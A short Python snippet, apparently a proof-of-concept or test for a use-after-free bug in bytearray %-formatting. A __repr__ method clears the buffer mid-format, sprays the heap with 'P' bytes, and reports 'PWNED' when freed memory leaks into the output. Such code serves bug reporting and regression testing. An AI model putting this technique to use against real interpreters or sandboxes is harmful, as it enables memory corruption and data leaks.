class Going:
    """Written out in the middle of the format, takes the format away and puts other bytes there."""

    def __repr__(self):
        b.clear()
        Going.others = [bytes([80] * 172) for _ in range(1000)]
        return ""


b = bytearray(b"%a" + b"." * 200)
told = b % (Going(),)
return "PWNED" if b"PPPP" in told else "no"
